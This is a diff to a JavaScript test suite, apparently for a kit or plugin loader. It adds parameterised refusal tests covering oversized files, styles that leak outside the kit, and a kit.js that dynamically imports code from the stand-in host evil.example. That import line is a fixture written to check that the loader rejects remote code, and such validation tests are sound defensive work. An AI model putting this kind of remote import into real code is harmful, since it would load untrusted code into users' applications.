@@ -1,3 +1,4 @@
+import { randomBytes } from 'node:crypto';
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -82,9 +83,13 @@ describe('is refused', () => {
     await expect(read()).rejects.toThrow('has no mf-manifest.json');
   });
 
-  it('with styles that reach outside it', async () => {
-    build({}, { 'kit.css': 'h1 { color: red }' });
-    await expect(read()).rejects.toThrow('its styles reach outside it: h1');
+  it.each([
+    ['styles that reach outside it', 'kit.css', 'h1 { color: red }', 'its styles reach outside it: h1. Put'],
+    ['too heavy a file', 'kit.js', randomBytes(60_000).toString('hex'), /kit\.js is \d+ bytes; the limit/],
+    ['code from another site', 'kit.js', 'import("https://evil.example/a.js")', 'kit.js loads https://evil'],
+  ])('with %s', async (_, file, text, reason) => {
+    build({}, { [file]: text });
+    await expect(read()).rejects.toThrow(reason);
   });
 
   it('with a manifest that is none', async () => {
